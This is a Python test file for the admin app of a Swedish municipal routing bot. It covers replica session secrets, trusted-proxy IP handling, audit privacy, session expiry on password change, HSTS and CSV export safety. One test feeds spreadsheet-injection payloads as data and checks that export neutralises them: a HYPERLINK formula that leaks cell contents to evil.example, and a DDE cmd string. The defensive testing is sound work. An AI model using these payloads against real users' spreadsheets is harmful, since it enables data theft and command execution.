"""Replicas, proxies and the smaller hardening of the administration: SESSION_SECRET with several replicas,
the trusted-proxy rule for X-Forwarded-For, no typed names in the audit, sessions ending with a new password,
HSTS and Secure cookies behind https."""

from __future__ import annotations

import re

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot.administration import create_standalone_app
from bot.settings import Settings, SettingsError
from tests.admin.conftest import FAST_HASHER, PASSWORD, settings_for


async def _audited_ip(harness) -> str | None:  # type: ignore[no-untyped-def]
    return (await harness.accounts.audit_log(limit=1))[0].ip


async def _fail(client, forwarded: str | None = None, username: str = "anna") -> None:  # type: ignore[no-untyped-def]
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    response = await client.post("/admin/api/session", json={"username": username, "password": "fel"},
                                 headers=headers)
    assert response.status == 401


# -- several replicas -------------------------------------------------------------------------------------
def test_replicas_above_one_require_a_session_secret() -> None:
    with pytest.raises(SettingsError, match="SESSION_SECRET"):
        Settings.from_env({"REPLICAS": "2"})
    assert Settings.from_env({"REPLICAS": "2", "SESSION_SECRET": "delad-hemlighet"}).replicas == 2
    assert Settings.from_env({}).replicas == 1
    with pytest.raises(SettingsError, match="REPLICAS"):
        Settings.from_env({"REPLICAS": "0"})


def test_the_admin_app_refuses_to_start_without_a_secret_for_several_replicas() -> None:
    with pytest.raises(SettingsError, match="SESSION_SECRET"):
        create_standalone_app(Settings(replicas=2, session_secret=""))
    create_standalone_app(Settings(replicas=2, session_secret="delad-hemlighet"))


async def test_a_session_opened_on_one_replica_works_on_another(make_harness, sqlite_db) -> None:
    """Sessions live in the database and cookies are signed with the shared secret: any replica serves."""
    first = await make_harness(sqlite_db)
    csrf = await first.sign_in("anna")
    token = first.client.session.cookie_jar.filter_cookies(first.client.make_url("/admin/"))["samrad_admin"].value
    second = create_standalone_app(settings_for(sqlite_db), hasher=FAST_HASHER)
    async with TestClient(TestServer(second)) as other:
        other.session.cookie_jar.update_cookies({"samrad_admin": token})
        body = await (await other.get("/admin/api/session")).json()
        assert body["user"]["username"] == "anna"
        assert body["csrf_token"] == csrf
        # The login form's CSRF cookie signed by one replica is accepted by the other.
        other.session.cookie_jar.clear()
        page = await first.client.get("/admin/login")
        login_cookie = page.cookies["samrad_login"].value
        form_token = re.search(r'action="/admin/login"[^>]*>\s*<input type="hidden" name="csrf_token" '
                               r'value="([^"]+)"', await page.text()).group(1)
        response = await other.post("/admin/login", data={"csrf_token": form_token, "username": "anna",
                                                          "password": PASSWORD}, allow_redirects=False,
                                    headers={"Cookie": f"samrad_login={login_cookie}"})
        assert response.status == 302


def test_forwarded_allow_ips_is_parsed_and_checked() -> None:
    settings = Settings.from_env({"FORWARDED_ALLOW_IPS": "10.0.0.5, 172.16.0.0/12"})
    assert settings.forwarded_allow_ips == ("10.0.0.5", "172.16.0.0/12")
    assert Settings.from_env({"FORWARDED_ALLOW_IPS": "*"}).forwarded_allow_ips == ("*",)
    with pytest.raises(SettingsError, match="FORWARDED_ALLOW_IPS"):
        Settings.from_env({"FORWARDED_ALLOW_IPS": "proxy.example"})


# -- the trusted-proxy rule ---------------------------------------------------------------------------------
async def test_x_forwarded_for_is_ignored_without_a_trusted_proxy(harness) -> None:
    await _fail(harness.client, forwarded="203.0.113.7")
    assert await _audited_ip(harness) == "127.0.0.1"


async def test_x_forwarded_for_is_ignored_from_a_peer_that_is_not_trusted(make_harness, sqlite_db) -> None:
    harness = await make_harness(sqlite_db, settings={"forwarded_allow_ips": ("10.0.0.5",)})
    await _fail(harness.client, forwarded="203.0.113.7")
    assert await _audited_ip(harness) == "127.0.0.1"


async def test_x_forwarded_for_is_believed_from_a_trusted_proxy(make_harness, sqlite_db) -> None:
    harness = await make_harness(sqlite_db, settings={"forwarded_allow_ips": ("127.0.0.0/8",)})
    await _fail(harness.client, forwarded="203.0.113.7")
    assert await _audited_ip(harness) == "203.0.113.7"


async def test_addresses_a_client_wrote_itself_are_not_believed(make_harness, sqlite_db) -> None:
    harness = await make_harness(sqlite_db, settings={"forwarded_allow_ips": ("127.0.0.1", "10.0.0.0/8")})
    # The client claims 1.2.3.4; the trusted proxy 10.0.0.9 saw 198.51.100.2 and appended it.
    await _fail(harness.client, forwarded="1.2.3.4, 198.51.100.2, 10.0.0.9")
    assert await _audited_ip(harness) == "198.51.100.2"
    await _fail(harness.client, forwarded="inte-en-adress, 10.0.0.9")
    assert await _audited_ip(harness) == "10.0.0.9"


# -- the audit never holds what was typed as a name --------------------------------------------------------
async def test_a_password_typed_as_the_user_name_is_not_stored(harness) -> None:
    secret = "Hemligt-lösen-123"
    for _ in range(5):  # failures, then throttled attempts: neither may store the typed name
        await harness.client.post("/admin/api/session", json={"username": secret, "password": ""})
    entries = await harness.accounts.audit_log()
    assert {e.event for e in entries} == {"signin_failed", "signin_throttled"}
    assert all(secret not in repr(e) and secret.casefold() not in repr(e) for e in entries)
    assert all(e.actor == "-" for e in entries)
    # The same typed name gets the same reference, so repeated tries can still be linked.
    assert len({e.detail["name_ref"] for e in entries}) == 1


async def test_a_known_account_is_named_in_the_audit(harness) -> None:
    await _fail(harness.client)
    entry = (await harness.accounts.audit_log(limit=1))[0]
    assert entry.actor == "anna"
    assert "name_ref" not in (entry.detail or {})


# -- sessions end with a new password ---------------------------------------------------------------------
async def test_a_new_password_ends_the_accounts_sessions(harness) -> None:
    await harness.sign_in("farsta-red")
    assert (await harness.client.get("/admin/api/session")).status == 200
    await harness.accounts.set_password("farsta-red", "ett-helt-nytt-lösenord")
    assert (await harness.client.get("/admin/api/session")).status == 401


async def test_a_new_password_leaves_other_accounts_signed_in(harness) -> None:
    await harness.sign_in("anna")
    await harness.accounts.set_password("farsta-red", "ett-helt-nytt-lösenord")
    assert (await harness.client.get("/admin/api/session")).status == 200


# -- https ------------------------------------------------------------------------------------------------
def test_cookies_are_secure_by_default_when_the_public_address_is_https() -> None:
    assert Settings.from_env({"PUBLIC_URL": "https://samrad.example.se"}).secure_cookies
    assert not Settings.from_env({"PUBLIC_URL": "http://localhost:3978"}).secure_cookies
    assert not Settings.from_env({"PUBLIC_URL": "https://samrad.example.se", "SECURE_COOKIES": "0"}).secure_cookies


async def test_hsts_and_secure_cookies_behind_https(make_harness, sqlite_db) -> None:
    harness = await make_harness(sqlite_db, settings={"public_url": "https://samrad.example.se",
                                                      "secure_cookies": True})
    response = await harness.client.get("/admin/login")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")
    assert response.cookies["samrad_login"]["secure"]
    response = await harness.client.post("/admin/api/session", json={"username": "anna", "password": PASSWORD})
    assert response.cookies["samrad_admin"]["secure"]


async def test_no_hsts_over_plain_http(harness) -> None:
    response = await harness.client.get("/admin/login")
    assert "Strict-Transport-Security" not in response.headers


# -- CSV export never hands a spreadsheet a formula ---------------------------------------------------------
async def test_csv_export_neutralises_formulas_and_imports_back_unchanged(routed) -> None:
    csrf = {"X-CSRF-Token": await routed.sign_in("anna")}
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
    for record_id, name, phone in (("c-f1", formula, "+46 8 508 000 00"), ("c-f2", "@SUM(1+1)", "-1"),
                                   ("c-f3", "+cmd|' /C calc'!A0", "08-123")):
        response = await routed.client.post("/admin/api/tables/contacts", headers=csrf, json={
            "id": record_id, "name": name, "unit_id": "farsta-soc", "phone": phone, "priority": 1})
        assert response.status == 201, await response.text()
    exported = await (await routed.client.get("/admin/api/export/contacts.csv")).text()
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), [c for c in cells if c[:1] in "=+-@"]
    assert "'" + formula in cells
    assert "'+46 8 508 000 00" in cells
    assert "'-1" in cells
    # The exported file imports back as the very same records: nothing changes.
    response = await routed.client.post("/admin/api/import/preview", headers=csrf, json={
        "files": [{"name": "contacts.csv", "text": exported}]})
    summary = (await response.json())["summary"]
    assert response.status == 200, summary
    assert summary["updated"] == {}, summary
    assert summary["created"] == {}, summary


# -- a socionom sees only their own district's people ---------------------------------------------------------
async def test_route_test_shows_a_socionom_no_other_districts_contacts(routed) -> None:
    csrf = {"X-CSRF-Token": await routed.sign_in("soc-farsta")}
    response = await routed.client.post("/admin/api/route-test", headers=csrf, json={
        "preschool": "Förskolan Eken", "concern": "neglect", "at": "2026-03-04T10:00"})
    body = await response.json()
    assert response.status == 200
    assert body["decision"]["district"]["id"] == "bromma"
    assert "c-bromma" not in str(body)
    assert "Bo Bromma" not in str(body)
    assert "08-000 00 02" not in str(body)
    # Their own district still gets its contacts; an administrator sees Bromma's.
    own = await (await routed.client.post("/admin/api/route-test", headers=csrf, json={
        "preschool": "solrosen", "concern": "neglect", "at": "2026-03-04T10:00"})).json()
    assert own["decision"]["contacts"][0]["id"] == "c-farsta"
    admin = {"X-CSRF-Token": await routed.sign_in("anna")}
    other = await (await routed.client.post("/admin/api/route-test", headers=admin, json={
        "preschool": "Förskolan Eken", "concern": "neglect", "at": "2026-03-04T10:00"})).json()
    assert other["decision"]["contacts"][0]["id"] == "c-bromma"


async def test_route_test_page_shows_a_socionom_no_other_districts_contacts(routed) -> None:
    csrf = await routed.sign_in("soc-farsta")
    page = await routed.client.post("/admin/testa", data={"csrf_token": csrf, "preschool": "Förskolan Eken",
                                                          "concern": "neglect", "at": "2026-03-04T10:00"})
    text = await page.text()
    assert page.status == 200
    assert "Bo Bromma" not in text
    assert "08-000 00 02" not in text


async def test_validation_shows_a_socionom_only_their_own_districts_gaps(routed) -> None:
    csrf = {"X-CSRF-Token": await routed.sign_in("anna")}
    # Bromma loses its only contact: an administrator sees the gap, Farsta's socionom does not.
    await routed.client.delete("/admin/api/tables/contacts/c-bromma", headers=csrf)
    assert "bromma" in (await (await routed.client.get("/admin/api/validation")).json())["districts_without_socionom"]
    await routed.sign_in("soc-farsta")
    body = await (await routed.client.get("/admin/api/validation")).json()
    assert body["districts_without_socionom"] == []
    assert "bromma" not in str(body["lines"])
